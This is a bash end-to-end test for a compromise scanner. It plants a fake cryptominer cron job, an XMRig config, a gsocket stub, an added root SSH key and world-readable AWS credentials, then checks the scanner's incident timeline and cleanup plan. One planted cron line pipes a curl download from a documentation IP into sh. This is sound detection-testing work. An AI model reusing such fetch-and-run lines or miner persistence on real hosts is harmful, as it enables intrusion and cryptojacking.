#!/bin/bash
# Incidents (issue 7): the findings of one compromise tied into one story.
# Part 1, a disk image (--root; unprivileged is fine): a cron entry in
# /etc/cron.d runs /var/tmp/.x/kworker, the dropped directory /var/tmp/.x
# also holds an XMRig config and a gsocket binary (a proxy), an SSH key
# was added for root beside the cloud image's login stub minutes later,
# and root's AWS credentials are readable by every user.  One incident
# must tie all of them together, with a timeline in order (first dropped
# file, cron entry, key added; times from the files' mtimes) and a plan
# (remove the cron line, the directory, the key; rotate the AWS key).  An
# old sudo rule for the backup account (unrelated, 90 days older) stays
# outside.  A timestomped file in the dropped directory (mtime years
# before its ctime) is said to disagree.
# Part 2, live (needs private network namespaces): a miner (fakeminer,
# talking stratum to a testpool in a namespace with only loopback) started
# by a shell disguised as "cron" from a plain directory, running from a
# deleted copy in a dropped directory under /dev/shm: its incident tells
# who started it (the ancestry), stops its pid first and times its start.
# Part 3, live, root (a private mount namespace): the must-be-shown
# compromise on the running host in one scan.  /etc/cron.d/kworker runs
# /var/tmp/.x/kworker (a fakeminer mining to the test pool), /var/tmp/.x
# also holds a dropper script written first, the obscured config and a
# gsocket proxy; a key was added for root and root's AWS credentials are
# readable by every user.  One incident ties the miner process, the cron
# entry, the proxy, the key and the credentials; its timeline runs from the
# script (the first dropped file, no finding of its own) through the cron
# entry and the key to the miner's start; its plan stops the pid first.
# An old, unrelated cron entry stays outside.  Writes to /etc, /root and /var/tmp
# happen only inside the namespace (tmpfs and bind mounts).
# e2e-timeout: 240
. "$(dirname "$0")/lib.sh"

K1=AAAAC3NzaC1lZDI1NTE5AAAAIMs56zHlK6MdnWptnFMjvLg5zDeO8BJlS9lJv9xJ/tSH
FP1=SHA256:4fScmOar4GLDeXbSV9R3O286bqcq/DHCaDZy+w7iKRs
STUB='no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo '\''Please login as the user \"admin\" rather than the user \"root\".'\'';echo;sleep 10;exit 142"'
W=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A

# times relative to now, so the ctimes the test cannot set stay within a
# day of the mtimes (only the timestomped file is years off)
NOW=$(date +%s)
T_DROP=$((NOW - 7200))          # the directory is filled
T_CRON=$((T_DROP + 120))        # the cron entry is written
T_KEY=$((T_DROP + 300))         # the key is added
at() { touch -h -d "@$1" "$2"; }
iso() { date -u -d "@$1" +%Y-%m-%dT%H:%M:%S.000Z; }

R=$T/img
mkdir -p "$R/etc/cron.d" "$R/etc/sudoers.d" "$R/var/tmp/.x" "$R/root/.ssh" \
	"$R/root/.aws" "$R/var/log"
cat >"$R/etc/passwd" <<'P'
root:x:0:0:root:/root:/bin/bash
backup:x:34:34:backup:/var/backups:/usr/sbin/nologin
admin:x:1000:1000::/home/admin:/bin/bash
P
printf 'root:x:0:\nbackup:x:34:\n' >"$R/etc/group"
printf 'rm-e2e-incident\n' >"$R/etc/hostname"
# what the dropper left: a miner, its config, a proxy (gsocket)
printf '{"autosave":true,"cpu":{"enabled":true,"huge-pages":true},"randomx":{"1gb-pages":true},"pools":[{"url":"stratum+tcp://pool.supportxmr.com:3333","user":"%s","pass":"x","keepalive":true}]}\n' \
	"$W" >"$R/var/tmp/.x/config.json"
printf '\177ELF fake miner\n' >"$R/var/tmp/.x/kworker"
printf '\177ELF fake gsocket\n' >"$R/var/tmp/.x/gs-netcat"
chmod 0755 "$R/var/tmp/.x/kworker" "$R/var/tmp/.x/gs-netcat"
printf '*/5 * * * * root /var/tmp/.x/kworker -c /var/tmp/.x/config.json >/dev/null 2>&1\n' \
	>"$R/etc/cron.d/kworker"
printf '%s ssh-ed25519 %s cloud\nssh-ed25519 %s x@vps\n' "$STUB" "$K1" "$K1" \
	>"$R/root/.ssh/authorized_keys"
chmod 0700 "$R/root/.ssh"
chmod 0600 "$R/root/.ssh/authorized_keys"
printf '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' \
	>"$R/root/.aws/credentials"
chmod 0644 "$R/root/.aws/credentials"
# unrelated and old: a sudo rule for the backup account
printf '#includedir /etc/sudoers.d\n' >"$R/etc/sudoers"
printf 'backup ALL=(ALL) NOPASSWD: ALL\n' >"$R/etc/sudoers.d/backup"
chmod 0440 "$R/etc/sudoers" "$R/etc/sudoers.d/backup"
printf 'log\n' >"$R/var/log/syslog"
at "$T_DROP" "$R/var/tmp/.x/config.json"
at $((T_DROP + 5)) "$R/var/tmp/.x/kworker"
at $((T_DROP + 10)) "$R/var/tmp/.x/gs-netcat"
at "$T_CRON" "$R/etc/cron.d/kworker"
at "$T_KEY" "$R/root/.ssh/authorized_keys"
at $((NOW - 72000)) "$R/root/.aws/credentials"
at $((NOW - 90 * 86400)) "$R/etc/sudoers.d/backup"
at $((NOW - 60)) "$R/var/log/syslog"

ROOKMELDER_YARA=1 rm_json "$T/img.json" --root "$R" --cpu-window 0
J=$T/img.json
[ "$RC" = 1 ] || fail "the compromised image exits $RC, expected 1"
id_of() {  # RULE PATH: the id of the finding of RULE about PATH
	jq -r --arg r "$1" --arg p "$2" '[.findings[] | select(.rule.id == $r and .file.path == $p) | .id][0] // empty' "$J"
}
CRON=$(id_of RM-PER-001 /etc/cron.d/kworker)
CFG=$(id_of RM-YAR-001 /var/tmp/.x/config.json)
PROXY=$(id_of RM-RES-002 /var/tmp/.x/gs-netcat)
KEY=$(id_of RM-PER-003 /root/.ssh/authorized_keys)
CRED=$(id_of RM-CRED-001 /root/.aws/credentials)
SUDO=$(id_of RM-ACCT-003 /etc/sudoers.d/backup)
for v in CRON CFG PROXY KEY CRED SUDO; do
	[ -n "${!v}" ] || { dump_findings "$J" >&2; fail "test setup: no finding for $v"; }
done
jq_true "$J" '.incidents | length == 1' \
	"$(jq '.incidents | length' "$J") incidents, expected 1: $(jq -c '[.incidents[] | {id, summary, findings}]' "$J")"
I=$(jq -c '.incidents[0]' "$J")
say "incident: $(jq -c '{id, severity, summary, findings}' <<<"$I")"
ij() { jq -e "$@" <<<"$I" >/dev/null; }
for v in CRON CFG PROXY KEY CRED; do
	ij --arg f "${!v}" '.findings | index($f) != null' ||
		fail "the incident lacks $v (${!v}): $(jq -c .findings <<<"$I")"
done
ij --arg f "$SUDO" '.findings | index($f) == null' ||
	fail "the unrelated sudo rule $SUDO was tied into the incident"
jq_true --arg f "$SUDO" "$J" '[.findings[] | select(.id == $f) | .evidence | has("incident")] == [false]' \
	"the sudo rule's finding carries an incident"
# every member says which incident it is in; ids in report order
jq_true "$J" '[.findings[] | select(.evidence.incident == "I-001") | .id] == .incidents[0].findings' \
	"evidence.incident and incidents[0].findings disagree"
ij '.id == "I-001" and .severity == "high"' || fail "id/severity: $(jq -c '{id, severity}' <<<"$I")"
ij '.summary | contains("/var/tmp/.x") and contains("/etc/cron.d/kworker")' ||
	fail "summary: $(jq -r .summary <<<"$I")"
ij '.story | map(select(startswith("How it started: /etc/cron.d/kworker:1 runs /var/tmp/.x/kworker"))) | length == 1' ||
	fail "story: $(jq -c .story <<<"$I")"

# the timeline: in order, from the files' mtimes
jq_true "$J" '.incidents[0].timeline | map(.time) == (map(.time) | sort)' "timeline out of order"
tl_at() {  # TIME-ISO SOURCE TEXT
	ij --arg t "$1" --arg s "$2" --arg x "$3" \
		'.timeline | map(select(.time == $t and .source == $s and (.event | contains($x)))) | length >= 1' ||
		fail "no timeline event at $1 ($2) with '$3': $(jq -c .timeline <<<"$I")"
}
tl_at "$(iso "$T_DROP")" mtime "/var/tmp/.x/config.json: miner file written (first dropped file)"
tl_at "$(iso "$T_CRON")" mtime "/etc/cron.d/kworker: cron entry written"
tl_at "$(iso "$T_KEY")" mtime "/root/.ssh/authorized_keys: SSH key file changed"
tl_at "$(iso $((T_DROP + 10)))" mtime "/var/tmp/.x/gs-netcat"
# the credential file is old: in the timeline, not in the story's start
ij '.timeline[0].event | contains("/root/.aws/credentials")' ||
	fail "the oldest event is not the credential file: $(jq -c '.timeline[0]' <<<"$I")"
ij '.times_disagree == false' || fail "times disagree in a consistent image: $(jq -c .timeline <<<"$I")"

# the plan: persistence, the dropped directory, the key, the credentials
act() {  # SUBSTRING: the index of the first action containing it
	jq -r --arg x "$1" '.actions | map(contains($x)) | index(true) // -1' <<<"$I"
}
a_cron=$(act "Remove line 1 of /etc/cron.d/kworker")
a_dir=$(act "Copy /var/tmp/.x aside as evidence, then remove it")
a_key=$(act "$FP1")
a_rot=$(act "Rotate the aws credential AKIA...MPLE in /root/.aws/credentials")
say "actions: $(jq -c .actions <<<"$I")"
for v in a_cron a_dir a_key a_rot; do
	[ "${!v}" -ge 0 ] || fail "no action for $v: $(jq -c .actions <<<"$I")"
done
[ "$a_cron" -lt "$a_dir" ] && [ "$a_dir" -lt "$a_rot" ] && [ "$a_key" -lt "$a_rot" ] ||
	fail "actions out of order: cron $a_cron dir $a_dir key $a_key rotate $a_rot"
ij '[.plan[] | .do] | index("rotate") != null and index("remove") != null' ||
	fail "plan: $(jq -c .plan <<<"$I")"
ij '(.plan | length) == (.actions | length)' || fail "plan and actions differ in length"

# text output leads with the incident, then the findings outside it
ROOKMELDER_YARA=1 rm_run "$T/img.txt" scan --root "$R" --cpu-window 0 --no-color
head -8 "$T/img.txt" | grep -q '^Incident I-001' || fail "the text does not lead with the incident: $(head -8 "$T/img.txt")"
grep -q '^Findings outside the incidents:' "$T/img.txt" || fail "no 'Findings outside the incidents' in the text"
grep -q '^Summary: .* Incidents: 1\.' "$T/img.txt" ||
	fail "the last line does not start with the summary and count the incident: $(tail -1 "$T/img.txt")"
sed -n '/^Findings outside the incidents:/,$p' "$T/img.txt" | grep -q 'RM-ACCT-003' ||
	fail "the sudo rule is not among the findings outside the incident"
grep -q "^     1\. Remove line 1 of /etc/cron.d/kworker" "$T/img.txt" || fail "the text's plan does not start with the cron line"

# a timestomped file in the dropped directory: the times disagree
cp -a "$R" "$T/img2"
printf '\177ELF fake frpc\n' >"$T/img2/var/tmp/.x/frpc"
touch -d '2019-03-01 00:00:00 UTC' "$T/img2/var/tmp/.x/frpc"
ROOKMELDER_YARA=1 rm_json "$T/img2.json" --root "$T/img2" --cpu-window 0
jq_true "$T/img2.json" '.incidents | length == 1' "timestomped image: $(jq '.incidents | length' "$T/img2.json") incidents"
jq_true "$T/img2.json" '.incidents[0].times_disagree == true and
	([.incidents[0].timeline[] | select(.source == "mtime" and (.event | contains("/var/tmp/.x/frpc")) and (.event | contains("times disagree")))] | length == 1) and
	([.incidents[0].timeline[] | select(.source == "ctime" and (.event | contains("/var/tmp/.x/frpc")))] | length == 1)' \
	"the timestomped frpc is not said to disagree: $(jq -c '.incidents[0].timeline' "$T/img2.json")"

# ---- part 2: live ancestry ----------------------------------------------------
. "$(dirname "$0")/mine-lib.sh"
if [ "$MYUID" -ne 0 ] && ! unshare -rn true 2>/dev/null; then
	say "note: no private network namespaces as $(id -un): the live part is skipped"
	finish
fi
need_cmd unshare ip nsenter ps
if ! plain_dir; then
	say "note: no plain directory for the cron shell as $(id -un) (run as root, or set E2E_PLAIN_BASE): the live part is skipped"
	finish
fi
cp /bin/dash "$PLAIN/cron" || fail "cannot copy dash"
SHM=/dev/shm/rm-e2e-incident-$$
track_path "$SHM"
mkdir -p "$SHM/.x" "$T/.cache" || skip "cannot write /dev/shm"
BIN=$SHM/.x/kworker
cp "$HELPERS/fakeminer" "$BIN"
printf '\177ELF fake gsocket\n' >"$SHM/.x/gs-netcat"
chmod 0755 "$SHM/.x/gs-netcat"
mine_pool pool -p 3333 -t 80
mine_cfg "$T/.cache/.sess" "stratum+tcp://127.0.0.1:3333" "$(mine_wallet)" xmrig
mine_enter "$POOL_PID"
# "cron" (a shell) starts the miner and waits for it: the miner's parent
bg cron "${MINE_ENTER[@]}" "$PLAIN/cron" -c '"$0" "$@"; exit 0' "$BIN" \
	-c "$T/.cache/.sess" -t 70 -N 5
CP=$BG_PID
P=
for i in $(seq 1 100); do
	P=$(ps -o pid= --ppid "$CP" 2>/dev/null | tr -d ' ' | head -1)
	[ -n "$P" ] && [ "$(readlink "/proc/$P/exe" 2>/dev/null)" = "$BIN" ] && break
	P=
	sleep 0.05
done
[ -n "$P" ] || fail "the miner did not start under the cron shell $CP"
rm -f "$BIN"
mine_wait pool '^submit ' 1 20

rm_json "$T/live.json" --cpu-window 1 --no-pid-probe
L=$T/live.json
expect_finding "$L" RM-MIN-001 "$P"
MID=$(jq -r .id <<<"$F")
LI=$(jq -c --arg f "$MID" '[.incidents[] | select(.findings | index($f) != null)][0]' "$L")
[ "$LI" != null ] || fail "the miner's finding $MID is in no incident: $(jq -c '[.incidents[] | {id, summary}]' "$L")"
say "live incident: $(jq -c '{id, severity, summary, story}' <<<"$LI")"
say "its findings: $(jq -c --argjson ids "$(jq -c .findings <<<"$LI")" '[.findings[] | select(.id as $i | $ids | index($i) != null) | [.id, .rule.id, .severity, .process.pid // .file.path]]' "$L")"
# nothing of another process tree or place is in it
jq -e --argjson ids "$(jq -c .findings <<<"$LI")" --arg shm "$SHM" --argjson p "$P" \
	'[.findings[] | select(.id as $i | $ids | index($i) != null)
	  | select((.process.pid // -1) != $p and ((.file.path // "") | startswith($shm) | not))] | length == 0' "$L" >/dev/null ||
	fail "the live incident holds findings of other processes or places"
jq -e --arg p "$P" '.miner == true and .plan[0].do == "stop" and .plan[0].target == $p' <<<"$LI" >/dev/null ||
	fail "the plan does not stop the miner $P first: $(jq -c '.plan[:3]' <<<"$LI")"
jq -e --arg p "$P" '.actions[0] | contains("kill -STOP " + $p)' <<<"$LI" >/dev/null ||
	fail "the first action: $(jq -c '.actions[0]' <<<"$LI")"
jq -e --arg c "cron ($CP)" '.story | map(select(startswith("How it started: started by a cron job") and contains($c))) | length == 1' <<<"$LI" >/dev/null ||
	fail "the story does not say cron ($CP) started it: $(jq -c .story <<<"$LI")"
jq -e --arg p "process $P " '.timeline | map(select(.source == "start" and (.event | startswith($p)))) | length == 1' <<<"$LI" >/dev/null ||
	fail "no start time for $P in the timeline: $(jq -c .timeline <<<"$LI")"
# its start time is the kernel's: boot time + start ticks, within a minute
st=$(jq -r --arg p "process $P " '.timeline[] | select(.source == "start" and (.event | startswith($p))) | .time' <<<"$LI")
want=$(( $(awk '/^btime/ {print $2}' /proc/stat) + $(_starttime "$P") / $(getconf CLK_TCK) ))
got=$(date -d "$st" +%s)
[ $((got - want)) -le 1 ] && [ $((want - got)) -le 1 ] || fail "start time $st ($got), expected $want"
# the deleted executable (RM-PROC-001) is the same process: same incident
for rule in RM-PROC-001; do
	id=$(_findings_for "$L" "$rule" "$P" | jq -r '.[0].id // empty')
	[ -z "$id" ] || jq -e --arg f "$id" '.findings | index($f) != null' <<<"$LI" >/dev/null ||
		fail "$rule $id for the miner is not in its incident"
done
# the proxy dropped beside it, if the walk reported it, belongs there too
id=$(jq -r --arg p "$SHM/.x/gs-netcat" '[.findings[] | select(.file.path == $p) | .id][0] // empty' "$L")
if [ -n "$id" ]; then
	jq -e --arg f "$id" '.findings | index($f) != null' <<<"$LI" >/dev/null ||
		fail "the proxy $id beside the miner is not in its incident"
else
	say "note: no finding for $SHM/.x/gs-netcat in the live scan"
fi

# ---- part 3: the whole story live, one scan ------------------------------------
if [ "$MYUID" -ne 0 ] || ! unshare -m true 2>/dev/null; then
	say "note: part 3 needs root and mount namespaces: skipped"
	finish
fi
need_cmd mount nsenter
mine_kill_tree "$CP"           # part 2's miner: one miner per scan here
M=$T/mnt
mkdir -p "$M/root/.ssh" "$M/root/.aws" "$M/crond" "$M/vartmp"
chmod 0755 "$M/root" "$M/vartmp"
chmod 0700 "$M/root/.ssh"
bg mntns unshare -m --propagation private sleep 200
NS=$BG_PID
for i in $(seq 1 50); do
	[ "$(readlink "/proc/$NS/ns/mnt")" != "$(readlink /proc/self/ns/mnt)" ] && break
	sleep 0.02
done
[ "$(readlink "/proc/$NS/ns/mnt")" != "$(readlink /proc/self/ns/mnt)" ] ||
	fail "test setup: no private mount namespace"
IN=(nsenter -t "$NS" -m --)
"${IN[@]}" sh -c 'mount --bind "$1/root" /root && mount --bind "$1/crond" /etc/cron.d &&
	mount --bind "$1/vartmp" /var/tmp' sh "$M" ||
	fail "test setup: the bind mounts failed"
[ ! -e /var/tmp/.x ] || fail "test setup: the host's /var/tmp/.x exists"
X=$M/vartmp/.x
mkdir -p "$X"
NOW=$(date +%s)
printf '#!/bin/sh\n# fetched the kit\n' >"$X/a.sh"
cp "$HELPERS/fakeminer" "$X/kworker"
mine_cfg "$X/.sess" "stratum+tcp://127.0.0.1:3333" "$(mine_wallet)" xmrig
printf '\177ELF fake gsocket\n' >"$X/gs-netcat"
chmod 0755 "$X/a.sh" "$X/kworker" "$X/gs-netcat"
printf '*/5 * * * * root /var/tmp/.x/kworker -c /var/tmp/.x/.sess >/dev/null 2>&1\n' \
	>"$M/crond/kworker"
printf '%s ssh-ed25519 %s cloud\nssh-ed25519 %s x@vps\n' "$STUB" "$K1" "$K1" \
	>"$M/root/.ssh/authorized_keys"
chmod 0600 "$M/root/.ssh/authorized_keys"
printf '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' \
	>"$M/root/.aws/credentials"
chmod 0644 "$M/root/.aws/credentials"
# unrelated and old: another cron entry that fetches and runs a script
printf '0 3 * * * root curl -fsSL http://198.51.100.7/sync.sh | sh\n' >"$M/crond/sync"
T3_DROP=$((NOW - 900))
at "$T3_DROP" "$X/a.sh"
at $((T3_DROP + 60)) "$X/.sess"
at $((T3_DROP + 62)) "$X/kworker"
at $((T3_DROP + 64)) "$X/gs-netcat"
at $((T3_DROP + 120)) "$M/crond/kworker"
at $((T3_DROP + 400)) "$M/root/.ssh/authorized_keys"
at $((NOW - 72000)) "$M/root/.aws/credentials"
at $((NOW - 90 * 86400)) "$M/crond/sync"
"${IN[@]}" test -x /var/tmp/.x/kworker || fail "test setup: /var/tmp/.x is not in the namespace"
# "cron" runs the entry's command: the miner, from the dropped directory
bg cron3 "${IN[@]}" "${MINE_ENTER[@]}" "$PLAIN/cron" -c '"$0" "$@"; exit 0' \
	/var/tmp/.x/kworker -c /var/tmp/.x/.sess -t 60 -N 5
CP3=$BG_PID
P3=
for i in $(seq 1 100); do
	P3=$(ps -o pid= --ppid "$CP3" 2>/dev/null | tr -d ' ' | head -1)
	[ -n "$P3" ] && [ "$(readlink "/proc/$P3/exe" 2>/dev/null)" = /var/tmp/.x/kworker ] && break
	P3=
	sleep 0.05
done
[ -n "$P3" ] || fail "the miner did not start under the cron shell $CP3"
subs=$(grep -c '^submit ' "$T/pool.out")
mine_wait pool '^submit ' $((subs + 1)) 20

RM_WRAP=("${IN[@]}")
rm_json "$T/live3.json" --cpu-window 1 --no-pid-probe
RM_WRAP=()
J=$T/live3.json
expect_finding "$J" RM-MIN-001 "$P3"
MIN3=$(jq -r .id <<<"$F")
CRON=$(id_of RM-PER-001 /etc/cron.d/kworker)
PROXY=$(id_of RM-RES-002 /var/tmp/.x/gs-netcat)
KEY=$(id_of RM-PER-003 /root/.ssh/authorized_keys)
CRED=$(id_of RM-CRED-001 /root/.aws/credentials)
OLD=$(jq -r '[.findings[] | select(.file.path == "/etc/cron.d/sync") | .id][0] // empty' "$J")
for v in CRON PROXY KEY CRED OLD; do
	[ -n "${!v}" ] || { dump_findings "$J" >&2; fail "part 3 setup: no finding for $v"; }
done
I=$(jq -c --arg f "$MIN3" '[.incidents[] | select(.findings | index($f) != null)][0]' "$J")
[ "$I" != null ] || fail "the miner's finding $MIN3 is in no incident"
say "part 3 incident: $(jq -c '{id, severity, summary, story}' <<<"$I")"
say "part 3 timeline: $(jq -c '[.timeline[] | [.time, .source, .event]]' <<<"$I")"
for v in CRON PROXY KEY CRED; do
	ij --arg f "${!v}" '.findings | index($f) != null' ||
		fail "part 3: the incident lacks $v (${!v}): $(jq -c .findings <<<"$I")"
done
ij --arg f "$OLD" '.findings | index($f) == null' ||
	fail "part 3: the unrelated old cron entry $OLD was tied into the incident"
ij '.miner == true and (.severity == "high" or .severity == "critical")' ||
	fail "part 3: miner/severity: $(jq -c '{miner, severity}' <<<"$I")"
# every member at least high: the confirmed miner raised the rest
jq -e --argjson ids "$(jq -c .findings <<<"$I")" \
	'[.findings[] | select(.id as $i | $ids | index($i) != null) | select(.severity != "high" and .severity != "critical")] | length == 0' \
	"$J" >/dev/null || fail "part 3: a member of the miner's incident is below high"
ij --arg c "cron ($CP3)" '.story | map(select(startswith("How it started:") and (contains($c) or contains("/etc/cron.d/kworker")))) | length >= 1' ||
	fail "part 3: the story does not say how it started: $(jq -c .story <<<"$I")"
# the timeline, in order: the script first (no finding names it), the
# miner's files, the cron entry, the key, the miner's start
jq -e '.timeline | map(.time) == (map(.time) | sort)' <<<"$I" >/dev/null ||
	fail "part 3: timeline out of order"
tl_at "$(iso "$T3_DROP")" mtime "/var/tmp/.x/a.sh: the oldest file in the dropped directory /var/tmp/.x (first dropped file)"
tl_at "$(iso $((T3_DROP + 62)))" mtime "/var/tmp/.x/kworker"
tl_at "$(iso $((T3_DROP + 64)))" mtime "/var/tmp/.x/gs-netcat"
tl_at "$(iso $((T3_DROP + 120)))" mtime "/etc/cron.d/kworker: cron entry written"
tl_at "$(iso $((T3_DROP + 400)))" mtime "/root/.ssh/authorized_keys: SSH key file changed"
ij --arg p "process $P3 " '.timeline | map(select(.source == "start" and (.event | startswith($p)))) | length == 1' ||
	fail "part 3: no start time for the miner $P3: $(jq -c .timeline <<<"$I")"
ij '[.timeline[] | select(.event | contains("first dropped file"))] | length == 1' ||
	fail "part 3: 'first dropped file' is not said once"
# the plan: stop the miner first, then its persistence, its directory,
# the key, the credentials
a_stop=$(act "kill -STOP $P3")
a_cron=$(act "Remove line 1 of /etc/cron.d/kworker")
a_dir=$(act "Copy /var/tmp/.x aside as evidence, then remove it")
a_key=$(act "$FP1")
a_rot=$(act "Rotate the aws credential AKIA...MPLE in /root/.aws/credentials")
say "part 3 actions: $(jq -c .actions <<<"$I")"
for v in a_stop a_cron a_dir a_key a_rot; do
	[ "${!v}" -ge 0 ] || fail "part 3: no action for $v: $(jq -c .actions <<<"$I")"
done
[ "$a_stop" = 0 ] && [ "$a_cron" -lt "$a_dir" ] && [ "$a_dir" -lt "$a_rot" ] &&
	[ "$a_key" -lt "$a_rot" ] ||
	fail "part 3: actions out of order: stop $a_stop cron $a_cron dir $a_dir key $a_key rotate $a_rot"
mine_kill_tree "$CP3"
kill -KILL "$NS" 2>/dev/null
finish
